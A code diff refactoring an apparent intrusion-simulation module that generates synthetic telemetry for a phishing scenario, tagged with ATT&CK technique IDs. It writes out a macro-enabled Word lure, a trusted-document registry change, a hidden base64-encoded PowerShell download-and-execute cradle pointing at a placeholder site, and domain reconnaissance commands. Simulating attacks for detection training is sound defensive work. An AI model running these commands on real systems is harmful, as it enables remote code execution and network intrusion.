@@ -10,8 +10,12 @@ from carecordon.exercise.intrusion.steps import LETTER, RETURN, SURVEY, TOOL, Gi
 from carecordon.exercise.stage import Script
 from carecordon.exercise.telemetry import processes, traces, upkeep
 from carecordon.exercise.telemetry.programs import CMD, OFFICE, POWERSHELL, SYSTEM32, made_of
-from carecordon.exercise.telemetry.sensor import Process
+from carecordon.exercise.telemetry.sensor import Process, Sensor
 
+AUTOMATION = (
+    "C:\\Windows\\Microsoft.NET\\assembly\\GAC_MSIL\\System.Management.Automation\\v4.0_3.0.0.0__31bf3856ad364e35"
+    "\\System.Management.Automation.dll"
+)
 COMMANDS = (
     ("whoami.exe", "whoami /all", "T1033"),
     ("net.exe", 'net group "Domain Admins" /domain', "T1069.002"),
@@ -43,41 +47,35 @@ def _letter(plan: Intrusion, desk: Desk) -> Gives:
     acts.visit(on, mail, "mail.example.org")
     yield 90 + plan.rng.random() * 60
     path = f"{home}AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\K7QX2M1P\\Referral 4471.docm"
-    came = on.marked(LETTER.mark("T1566.001"))
-    traces.create(came, mail, path)
+    traces.create(on.marked(LETTER.mark("T1566.001")), mail, path)
     yield 2.0
-    opened = on.marked(LETTER.mark("T1566.001", "T1204.002"))
-    word = processes.start(
-        opened, mail, f"{OFFICE}WINWORD.EXE", f'"{OFFICE}WINWORD.EXE" /n "{path}" /o ""', directory=home
-    )
-    macro = on.marked(LETTER.mark("T1204.002"))
-    library = "C:\\Program Files\\Common Files\\Microsoft Shared\\VBA\\VBA7.1\\VBE7.DLL"
-    processes.load(macro, word, library, signed_by="Microsoft Corporation")
-    key = (
-        f"HKU\\{desk.session.sid}\\Software\\Microsoft\\Office\\16.0\\Word\\Security\\Trusted Documents\\TrustRecords\\"
-    )
-    traces.set_value(macro, word, key + path.replace("\\", "/"), "Binary Data")
+    opened, line = on.marked(LETTER.mark("T1566.001", "T1204.002")), f'"{OFFICE}WINWORD.EXE" /n "{path}" /o ""'
+    word = processes.start(opened, mail, f"{OFFICE}WINWORD.EXE", line, directory=home)
+    _allow_macro(on.marked(LETTER.mark("T1204.002")), word, path)
     yield 6 + plan.rng.random() * 9
     text = f"$w=New-Object Net.WebClient;$w.DownloadString('https://{plan.kit.site}/p/4471')|IEX"
     encoded = base64.b64encode(text.encode("utf-16-le")).decode()
-    run = on.marked(LETTER.mark("T1204.002", "T1059.001"))
-    shell = processes.start(
-        run,
-        word,
-        POWERSHELL,
-        f"powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand {encoded}",
-        directory=home,
+    run, line = (
+        on.marked(LETTER.mark("T1204.002", "T1059.001")),
+        f"-NoProfile -WindowStyle Hidden -EncodedCommand {encoded}",
     )
+    shell = processes.start(run, word, POWERSHELL, f"powershell.exe {line}", directory=home)
     script = on.marked(LETTER.mark("T1059.001"))
-    processes.load(
-        script,
-        shell,
-        "C:\\Windows\\Microsoft.NET\\assembly\\GAC_MSIL\\System.Management.Automation\\v4.0_3.0.0.0__31bf3856ad364e35\\System.Management.Automation.dll",
-    )
+    processes.load(script, shell, AUTOMATION)
     yield 1.0
     upkeep.run_script(script, shell, text)
     acts.visit(script, shell, plan.kit.site)
     return shell
+
+
+def _allow_macro(view: Sensor, word: Process, path: str) -> None:
+    """Load what runs macros, and note that the document is trusted."""
+    library = "C:\\Program Files\\Common Files\\Microsoft Shared\\VBA\\VBA7.1\\VBE7.DLL"
+    processes.load(view, word, library, signed_by="Microsoft Corporation")
+    key = (
+        f"HKU\\{word.session.sid}\\Software\\Microsoft\\Office\\16.0\\Word\\Security\\Trusted Documents\\TrustRecords\\"
+    )
+    traces.set_value(view, word, key + path.replace("\\", "/"), "Binary Data")
 
 
 def _tool(plan: Intrusion, shell: Process) -> Script:
